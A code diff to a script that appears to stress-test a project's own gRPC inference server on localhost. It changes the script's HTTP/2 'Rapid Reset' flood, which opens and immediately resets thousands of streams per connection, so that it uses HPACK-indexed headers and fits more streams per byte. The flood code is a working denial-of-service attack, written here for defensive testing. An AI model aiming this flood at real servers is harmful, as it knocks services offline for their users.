@@ -8,6 +8,7 @@ Needs the Python packages of tests/e2e. Usage: rapid_reset.py [--connections N] 
 """
 
 import argparse
+import itertools
 import multiprocessing
 import pathlib
 import selectors
@@ -16,23 +17,38 @@ import struct
 import sys
 import time
 
+import hpack
+
 sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[2] / "tests" / "e2e"))
 import daemon as e2e  # noqa: E402
 from test_grpc import HEADERS, PREFACE, frame  # noqa: E402
 
 CALLS = 16_000  # of one connection: more than it is allowed
+FIELDS = [(":method", "POST"), (":scheme", "http"), (":path", "/inference.GRPCInferenceService/ServerLive"),
+          (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers")]
+
+
+def opened_and_reset(heads):
+    return PREFACE + b"".join(frame(1, 4, stream, head) + frame(3, 0, stream, struct.pack(">I", 8))
+                              for stream, head in zip(range(1, 2 * CALLS, 2), heads))
+
+
+def indexed_heads():
+    """The first entered into HPACK's table, to which the others refer: as many calls in a byte as can be."""
+    encoder = hpack.Encoder()
+    while True:
+        yield encoder.encode(FIELDS)
 
 
 def attack(port, connections, end):
     """Sends as much as each connection takes, and reads nothing but their ends."""
-    bytes_of_all = PREFACE + b"".join(frame(1, 4, stream, HEADERS) + frame(3, 0, stream, struct.pack(">I", 8))
-                                      for stream in range(1, 2 * CALLS, 2))
+    floods = itertools.cycle([opened_and_reset(itertools.repeat(HEADERS)), opened_and_reset(indexed_heads())])
     selector = selectors.DefaultSelector()
 
     def connect():
         client = socket.create_connection(("127.0.0.1", port))
         client.setblocking(False)
-        selector.register(client, selectors.EVENT_READ | selectors.EVENT_WRITE, [0])
+        selector.register(client, selectors.EVENT_READ | selectors.EVENT_WRITE, [memoryview(next(floods))])
 
     def again(client):
         selector.unregister(client)
@@ -43,12 +59,12 @@ def attack(port, connections, end):
         connect()
     while time.monotonic() < end:
         for key, events in selector.select(0.1):
-            sent = key.data
+            left = key.data
             try:
                 if events & selectors.EVENT_READ and not key.fileobj.recv(65536):
                     again(key.fileobj)
-                elif events & selectors.EVENT_WRITE and sent[0] < len(bytes_of_all):
-                    sent[0] += key.fileobj.send(memoryview(bytes_of_all)[sent[0]:sent[0] + 65536])
+                elif events & selectors.EVENT_WRITE and left[0]:
+                    left[0] = left[0][key.fileobj.send(left[0][:65536]):]
             except BlockingIOError:
                 pass
             except OSError:
